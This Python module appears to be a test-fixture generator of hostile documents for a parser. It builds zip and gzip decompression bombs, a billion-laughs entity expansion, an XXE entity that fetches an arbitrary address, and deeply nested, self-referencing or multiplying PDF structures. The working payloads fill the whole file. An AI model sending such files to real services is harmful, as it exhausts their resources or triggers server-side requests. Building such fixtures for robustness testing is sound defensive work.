"""Documents that are made to harm their reader."""

from __future__ import annotations

import gzip
import zipfile
import zlib
from io import BytesIO

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
OFFICE = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
)
ODT_TYPE = "application/vnd.oasis.opendocument.text"


def pack(parts: dict[str, str | bytes]) -> bytes:
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content, zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def docx(document: str | bytes, **parts: str | bytes) -> bytes:
    return pack({"[Content_Types].xml": "<Types/>", "word/document.xml": document, **parts})


def odt(content: str | bytes) -> bytes:
    return pack({"mimetype": ODT_TYPE, "content.xml": content})


def word(body: str, before: str = "") -> str:
    return f'<?xml version="1.0"?>{before}<w:document {W}><w:body>{body}</w:body></w:document>'


def unpacking_docx(mib: int = 150) -> bytes:
    filling = b"<w:p/>" * (mib * 1024 * 1024 // 6)
    return docx(f"<w:document {W}><w:body>".encode() + filling + b"</w:body></w:document>")


def unpacking_odt(mib: int = 150) -> bytes:
    head = f"<office:document-content {OFFICE}><office:body><office:text>".encode()
    return odt(head + b" " * (mib * 1024 * 1024) + b"</office:text></office:body></office:document-content>")


LAUGHS = (
    "<!DOCTYPE w [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12)) + "]>"
)


def laughing_docx() -> bytes:
    return docx(word("<w:p><w:r><w:t>&a11;</w:t></w:r></w:p>", LAUGHS))


def fetching_docx(address: str) -> bytes:
    return docx(word("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", f"<!DOCTYPE w [<!ENTITY x SYSTEM '{address}'>]>"))


def deep_docx(depth: int = 100_000) -> bytes:
    return docx(word("<w:ins>" * depth + "</w:ins>" * depth))


def deep_odt(depth: int = 100_000) -> bytes:
    inner = "<text:section>" * depth + "</text:section>" * depth
    body = f"<office:body><office:text>{inner}</office:text></office:body>"
    return odt(f"<office:document-content {OFFICE}>{body}</office:document-content>")


def deep_html(depth: int = 100_000) -> bytes:
    return (f"<html><body>{'<div>' * depth}<p>Deep down.</p>{'</div>' * depth}</body></html>").encode()


def gzipped_html(mib: int = 0) -> bytes:
    page = b"<html><body><h1>Statement</h1><p>Quillfeather Ltd pays its workers in full and on time.</p>"
    return gzip.compress(page + b"<p> </p>" * (mib * 1024 * 1024 // 8) + b"</body></html>")


# --- PDF ------------------------------------------------------------------------------------


def pdf(objects: list[bytes]) -> bytes:
    """A PDF of these objects, the first being the catalogue."""
    out = b"%PDF-1.7\n"
    places = []
    for number, content in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + b"trailer\n<</Size %d /Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<<%s /Length %d>>\nstream\n%s\nendstream" % (entries, len(content), content)


def one_page(content: bytes, *more: bytes, resources: bytes = b"") -> bytes:
    return pdf(
        [
            b"<</Type /Catalog /Pages 2 0 R>>",
            b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
            b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources <<%s>>>>" % resources,
            content,
            *more,
        ]
    )


def inflating_pdf(mib: int = 2000) -> bytes:
    """One content stream that unpacks twice, to `mib` MiB."""
    packer = zlib.compressobj(9)
    once = b"".join(packer.compress(b" " * 1024 * 1024) for _ in range(mib)) + packer.flush()
    return one_page(stream(zlib.compress(once, 9), b"/Filter [/FlateDecode /FlateDecode]"))


def multiplying_pdf(levels: int = 12, times: int = 10) -> bytes:
    """Forms that draw forms that draw text: a few lines that stand for 10^12."""
    forms = []
    for level in range(levels):
        last = level == levels - 1
        content = b"BT /F1 9 Tf (Ha) Tj ET" if last else b"/X Do " * times
        below = b"" if last else b"/XObject <</X %d 0 R>>" % (level + 6)
        font = b"/Font <</F1 <</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>>>"
        entries = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources <<%s %s>>" % (below, font)
        forms.append(stream(content, entries))
    return one_page(stream(b"/X Do"), *forms, resources=b"/XObject <</X 5 0 R>>")


def long_pdf(pages: int = 5000) -> bytes:
    kids = b" ".join(b"%d 0 R" % (number + 3) for number in range(pages))
    page = b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]>>"
    catalogue = b"<</Type /Catalog /Pages 2 0 R>>"
    return pdf([catalogue, b"<</Type /Pages /Kids [%s] /Count %d>>" % (kids, pages), *[page] * pages])


def deep_pdf(depth: int = 20_000) -> bytes:
    """A page tree as deep as a well, with the page at the bottom."""
    nodes = [b"<</Type /Pages /Kids [%d 0 R] /Count 1>>" % (number + 3) for number in range(depth)]
    return pdf([b"<</Type /Catalog /Pages 2 0 R>>", *nodes, b"<</Type /Page /MediaBox [0 0 595 842]>>"])


def nested_pdf(depth: int = 200_000) -> bytes:
    """Brackets in brackets in the page's content and in an object."""
    return one_page(stream(b"[" * depth), resources=b"/A " + b"[" * depth)


def circling_pdf() -> bytes:
    """A page tree that holds itself."""
    return pdf([b"<</Type /Catalog /Pages 2 0 R>>", b"<</Type /Pages /Kids [2 0 R 2 0 R] /Count 1000000000>>"])


BOMBS = {
    "unpacking.docx": unpacking_docx,
    "unpacking.odt": unpacking_odt,
    "laughing.docx": laughing_docx,
    "deep.docx": deep_docx,
    "deep.odt": deep_odt,
    "deep.html": deep_html,
    "unpacking.html": lambda: gzipped_html(120),
    "inflating.pdf": inflating_pdf,
    "multiplying.pdf": multiplying_pdf,
    "long.pdf": long_pdf,
    "deep.pdf": deep_pdf,
    "nested.pdf": nested_pdf,
    "circling.pdf": circling_pdf,
}
